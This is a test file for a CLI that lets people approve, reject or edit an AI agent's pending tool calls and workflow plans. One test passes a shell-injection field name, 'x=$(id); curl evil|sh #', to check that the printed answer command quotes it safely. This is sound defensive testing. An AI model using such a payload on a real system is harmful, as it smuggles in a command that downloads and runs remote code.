import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { InputError } from "@troupe/core";
import type { InputRequest } from "@troupe/stream";
import { checkReply, workflowSchema } from "@troupe/workflow";
import { afterAll, describe, expect, it } from "vitest";

import { testContext } from "../testing/test-context.ts";
import { callLines, parseEdits } from "./decide.ts";
import { answerRequest } from "./inputs.ts";
import { answerCommands, waitingText } from "./waiting.ts";

const approval = {
  requestId: "r1",
  kind: "approval",
  calls: [
    { callId: "c1", tool: "send_mail", arguments: { to: "board\u001b[2J" } },
    { callId: "c2", tool: "delete_file", arguments: {} },
  ],
} as const satisfies InputRequest;
const none = new Map<string, string>();

/** A command whose person types these lines and leaves; nobody is there without any. */
function terminal(...typed: string[]) {
  const shown: string[] = [];
  const context = testContext("/", {
    err: (text) => void shown.push(text),
    ...(typed.length === 0 ? {} : { ask: () => Promise.resolve(typed.shift()) }),
  });
  return { context, shown };
}

describe("an approval", () => {
  const approved = approval.calls.map(({ callId }) => ({ callId, type: "approve" }));
  const rejected = approval.calls.map(({ callId }) => ({ callId, type: "reject", reason: "too early" }));

  it("is given or refused by the flag, for every call asked about", async () => {
    const { context } = terminal();
    const yes = await answerRequest(context, approval, none, { rest: { type: "approve" } });
    expect(yes).toEqual({ requestId: "r1", decisions: approved });
    const no = await answerRequest(context, approval, none, {
      rest: { type: "reject", reason: "too early" },
    });
    expect(no).toEqual({ requestId: "r1", decisions: rejected });
    for (const reply of [yes, no])
      expect(checkReply(approval, JSON.parse(JSON.stringify(reply))).ok).toBe(true);
  });

  it.each([
    [["yes"], approved],
    [["no", "too early"], rejected],
    [["sure", "", "yes"], approved],
    [["no"], undefined],
    [
      ["edit", '{"to":', '{"to":"ann"}', ""],
      [
        { callId: "c1", type: "edit", arguments: { to: "ann" } },
        { callId: "c2", type: "approve" },
      ],
    ],
    [[""], undefined],
    [[], undefined],
  ])("is asked at the terminal, and only a word decides: %j", async (typed, decisions) => {
    const { context } = terminal(...typed);
    expect(await answerRequest(context, approval, none)).toEqual(decisions && { requestId: "r1", decisions });
  });

  it("takes other arguments for a call by its id or its tool, and one word for the rest", async () => {
    const { context } = terminal();
    const rest = { type: "approve" } as const;
    for (const name of ["c1", "send_mail"]) {
      const edits = parseEdits([`${name}={"to":"ann=bob"}`]);
      const reply = await answerRequest(context, approval, none, { edits, rest });
      const decisions = [{ callId: "c1", type: "edit", arguments: { to: "ann=bob" } }, approved[1]];
      expect(reply).toEqual({ requestId: "r1", decisions });
    }
    const edits = (name: string) => answerRequest(context, approval, none, { edits: new Map([[name, {}]]) });
    await expect(edits("c1")).rejects.toThrow("Nothing is said of delete_file (c2). Add --approve");
    await expect(edits("c3")).rejects.toThrow(
      'No call "c3" waits; these do: send_mail (c1), delete_file (c2).',
    );
    const [mail, file] = approval.calls;
    const twice = { ...approval, calls: [mail, { ...file, tool: "send_mail" }] };
    await expect(
      answerRequest(context, twice, none, { edits: new Map([["send_mail", {}]]) }),
    ).rejects.toThrow("Name one by its id: send_mail (c1), send_mail (c2).");
    expect(callLines(twice.calls)).toMatch(/^ {2}send_mail .* \(c1\)\n {2}send_mail \{\} \(c2\)\n$/);
  });

  it.each(["c1", "=1", "c1={"])("refuses --edit %s", (pair) => {
    expect(() => parseEdits([pair])).toThrow(/is not of the form CALL=JSON/);
  });

  it("is shown at the terminal before it is asked", async () => {
    const { context, shown } = terminal("yes");
    await answerRequest(context, approval, none);
    expect(shown.join("")).toMatch(/approve:\n {2}send_mail \{"to":"board.*"\}\n {2}delete_file \{\}\n$/);
  });

  it("is shown with its calls and the commands that answer it", () => {
    const asked = { step: "mail", request: approval };
    expect(answerCommands({ env: {} }, "run", asked)).toEqual([
      "troupe answer run mail --approve",
      "troupe answer run mail --reject REASON",
      "troupe answer run mail --edit CALL=JSON",
    ]);
    const text = waitingText({ env: {} }, "run", [asked]);
    expect(text).toMatch(/approve:\n {2}send_mail .*\n {2}delete_file {}/);
    expect(text).toContain("\n  troupe answer run mail --reject REASON\n");
  });

  it("puts nothing into a command that a shell would act on, whatever a model calls its fields", () => {
    const field_name = "x=$(id); curl evil|sh #";
    const fields = [
      {
        field_name,
        field_label: "",
        field_description: "",
        field_type: "text" as const,
        field_values: [],
        default_value: null,
        placeholder: "",
        required: true,
      },
    ];
    const form = { title: "Who?", description: "", fields };
    const asked = { step: "s", request: { requestId: "r", kind: "form" as const, form } };
    expect(answerCommands({ env: {} }, "run", asked)).toEqual([
      "troupe answer run s --input 'x=$(id); curl evil|sh #=...'",
    ]);
  });
});

it("is answered by a command with the fields that need an answer, or with all where none does", () => {
  const field = (field_name: string, required: boolean, default_value: number | null) => ({
    field_name,
    field_label: "",
    field_description: "",
    field_type: "number" as const,
    field_values: [],
    default_value,
    placeholder: "",
    required,
  });
  const commands = (...fields: readonly ReturnType<typeof field>[]) => {
    const form = { title: "How?", description: "", fields };
    return answerCommands({ env: {} }, "run", {
      step: "s",
      request: { requestId: "r", kind: "form", form },
    });
  };
  const spare = [field("pages", false, 6), field("copies", true, 1), field("margin", false, null)];
  expect(commands(field("year", true, null), ...spare)).toEqual(["troupe answer run s --input year=..."]);
  expect(commands(...spare)).toEqual([
    "troupe answer run s --input pages=... --input copies=... --input margin=...",
  ]);
});

it("refuses a verdict where values are asked for", async () => {
  const form = { title: "Who?", description: "", fields: [] };
  const reply = answerRequest(terminal().context, { requestId: "r", kind: "form", form }, none, {
    rest: { type: "approve" },
  });
  await expect(reply).rejects.toThrow(InputError);
});

describe("the plan of a run", () => {
  const workflow = { version: 1, name: "Mine", steps: [{ id: "a", agent: "b", instruction: "Do it." }] };
  const plan = {
    requestId: "$plan",
    kind: "approval",
    calls: [{ callId: "plan-1", tool: "run_workflow", arguments: workflow }],
  } as const satisfies InputRequest;
  const home = mkdtempSync(join(tmpdir(), "troupe-plan-"));
  afterAll(() => rmSync(home, { recursive: true, force: true }));
  writeFileSync(
    join(home, "mine.yaml"),
    "version: 1\nname: Mine\nsteps:\n  - {id: c, agent: b, instruction: Do}\n",
  );

  it.each<[readonly string[], unknown]>([
    [["yes"], [{ callId: "plan-1", type: "approve" }]],
    [["perhaps", "n", "too dear"], [{ callId: "plan-1", type: "reject", reason: "too dear" }]],
    [
      ["edit", "none.yaml", "mine.yaml"],
      [{ callId: "plan-1", type: "edit", arguments: expect.objectContaining({ name: "Mine" }) }],
    ],
    [["edit"], undefined],
    [["no"], undefined],
    [[], undefined],
  ])("is decided at a terminal with %j", async (typed, decisions) => {
    const lines = [...typed];
    const shown: string[] = [];
    const context = {
      ...testContext(home, { err: (text) => void shown.push(text), cwd: home }),
      ask: () => Promise.resolve(lines.shift()),
    };
    const reply = await answerRequest(context, plan, none);
    expect(reply && "decisions" in reply ? reply.decisions : undefined).toEqual(decisions);
    expect(shown.join("")).toContain("  steps:\n    - id: a\n      agent: b\n      instruction: Do it.\n");
    expect(shown.join("").includes('"none.yaml" cannot be read')).toBe(typed.includes("none.yaml"));
    expect(reply === undefined || checkReply(plan, JSON.parse(JSON.stringify(reply))).ok).toBe(true);
  });

  it("takes another workflow by flag, and no arguments of a call", async () => {
    const { context } = terminal();
    const written = workflowSchema.parse(workflow);
    const edited = await answerRequest(context, plan, none, { workflow: written });
    expect(edited).toMatchObject({ decisions: [{ type: "edit", arguments: written }] });
    const edits = parseEdits(["run_workflow={}"]);
    await expect(answerRequest(context, plan, none, { edits })).rejects.toThrow("--workflow FILE");
    await expect(answerRequest(context, approval, none, { workflow: written })).rejects.toThrow(
      "does not ask for its plan",
    );
  });

  it("is shown as a file has it, with what to type and until when", () => {
    const asked = { step: "", request: { ...plan, expiresAt: Date.UTC(2026, 0, 2, 3, 4) } };
    const text = waitingText({ env: {} }, "r", [asked]);
    expect(text).toContain("approve it until 2026-01-02T03:04Z:\n  version: 1\n  name: Mine\n");
    expect(answerCommands({ env: {} }, "r", asked)).toEqual([
      "troupe answer r --approve",
      "troupe answer r --reject REASON",
      "troupe answer r --workflow FILE",
    ]);
  });
});
